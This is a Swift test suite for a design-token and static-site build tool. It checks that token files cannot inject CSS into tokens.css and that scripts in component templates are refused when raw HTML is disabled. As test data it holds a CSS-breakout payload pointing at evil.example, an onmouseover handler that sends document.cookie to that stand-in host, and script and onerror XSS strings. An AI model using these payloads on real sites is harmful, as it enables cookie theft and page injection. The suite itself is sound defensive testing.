import Foundation
import Testing

/// A token file arriving by pull request must not be able to write CSS of its own into
/// `tokens.css`: a unit, a name or a gradient's geometry that would end its declaration is
/// refused where it is written, and whatever reaches `tokens.css` stays inside its declaration.
@Suite("CSS injection into tokens.css")
struct CSSInjectionTests {
    static let payload = "}html{background:url(https://evil.example/x)}x{y:"

    static func build(_ tokens: String, files: [String: String] = [:]) throws -> (SpecimenProcess.Outcome, css: String?) {
        let root = try temporaryHandbook(
            ["specimen.yml": "tokens: tokens.json\n", "tokens.json": tokens, "Content/index.md": "# Home\n"].merging(files) { $1 })
        defer { try? FileManager.default.removeItem(at: root) }
        let outcome = try SpecimenProcess.run(["build"], in: root)
        let css = try? String(contentsOf: root.appendingPathComponent("Output/tokens.css"), encoding: .utf8)
        return (outcome, css)
    }

    @Test(arguments: [
        ##"{ "gap": { "$type": "dimension", "$value": { "value": 1, "unit": "px\##(payload)" } } }"##,
        ##"{ "s": { "$type": "shadow", "$value": { "color": "#000000", "offsetX": { "value": 0, "unit": "px\##(payload)" }, "offsetY": { "value": 1, "unit": "px" }, "blur": { "value": 2, "unit": "px" }, "spread": { "value": 0, "unit": "px" } } } }"##,
        ##"{ "gap": { "$type": "dimension", "$value": "1px\##(payload)" } }"##,
    ])
    func aUnitThatIsNoCSSUnitIsALocatedError(tokens: String) throws {
        let (outcome, css) = try Self.build(tokens)
        #expect(outcome.status == 1)
        #expect(outcome.standardError.contains("[token-value-invalid]"), "\(outcome.standardError)")
        #expect(outcome.standardError.contains("tokens.json:1:"))
        #expect(css.map { !$0.contains("evil.example") } ?? true, "no tokens.css is written, let alone with the payload")
    }

    @Test func unitsCSSHasAreKeptWithTheirWarning() throws {
        let (outcome, css) = try Self.build(
            ##"{ "w": { "$type": "dimension", "$value": { "value": 50, "unit": "%" } }, "h": { "$type": "dimension", "$value": { "value": 10, "unit": "dvh" } } }"##
        )
        #expect(outcome.status == 0, "\(outcome.standardError)")
        #expect(css?.contains("--w: 50%;") == true && css?.contains("--h: 10dvh;") == true)
    }

    @Test func aGradientsGeometryThatWouldBreakOutIsALocatedError() throws {
        let (outcome, css) = try Self.build(
            "",
            files: [
                "specimen.yml": "tokens: tokens\n",
                "tokens/$metadata.json": ##"{ "tokenSetOrder": ["core"] }"##,
                "tokens/core.json": ##"{ "g": { "value": "linear-gradient(90deg\##(Self.payload), #000000 0%, #ffffff 100%)", "type": "color" } }"##,
            ])
        #expect(outcome.status == 1)
        #expect(outcome.standardError.contains("tokens/core.json:1:19: error:"), "\(outcome.standardError)")
        #expect(css.map { !$0.contains("evil.example") } ?? true)
    }
}

/// `markdown.unsafe: false` reaches component templates: a script in one is an error at it,
/// through the real binary, and the same template builds where raw HTML is allowed.
@Suite("component templates, safe")
struct ComponentTemplateSafetyCLITests {
    @Test func aScriptInAComponentTemplateIsRefusedWhereRawHTMLIsOff() throws {
        let spec = """
            name: badge
            axes: {tone: [info, warning]}
            template: |
              <span class="badge" style="{{style}}" onmouseover="fetch('https://evil.example/'+document.cookie)">{{label}}</span>
            style:
              color: "{color.{tone}}"

            """
        let tokens = ##"{ "color": { "$type": "color", "info": { "$value": "#0969da" }, "warning": { "$value": "#9a6700" } } }"##
        let root = try temporaryHandbook([
            "specimen.yml": "tokens: tokens.json\nmarkdown:\n  unsafe: false\n",
            "tokens.json": tokens,
            "Content/index.md": "# Home\n",
            "Content/components/badge.component.yml": spec,
        ])
        defer { try? FileManager.default.removeItem(at: root) }
        let refused = try SpecimenProcess.run(["build"], in: root)
        #expect(refused.status == 1)
        #expect(refused.standardError.contains("Content/components/badge.component.yml:3:11: error: the event handler 'onmouseover' runs a script"))
        #expect(refused.standardError.contains("[component-template]"))
        try Data("tokens: tokens.json\n".utf8).write(to: root.appendingPathComponent("specimen.yml"))
        let allowed = try SpecimenProcess.run(["build"], in: root)
        #expect(allowed.status == 0, "\(allowed.standardError)")
        // A change under review may edit specimen.yml too: --safe-html holds whatever it says.
        let safe = try SpecimenProcess.run(["build", "--safe-html"], in: root)
        #expect(safe.status == 1 && safe.standardError.contains("[component-template]"), "\(safe.standardError)")
        try Data("# Home\n\n<script>alert(1)</script><img src=x onerror=alert(2)>\n".utf8).write(to: root.appendingPathComponent("Content/index.md"))
        try FileManager.default.removeItem(at: root.appendingPathComponent("Content/components"))
        #expect(try SpecimenProcess.run(["build", "--safe-html"], in: root).status == 0)
        let page = try String(contentsOf: root.appendingPathComponent("Output/index.html"), encoding: .utf8)
        #expect(!page.contains("alert(") && !page.contains("onerror"), "raw HTML removed")
    }
}
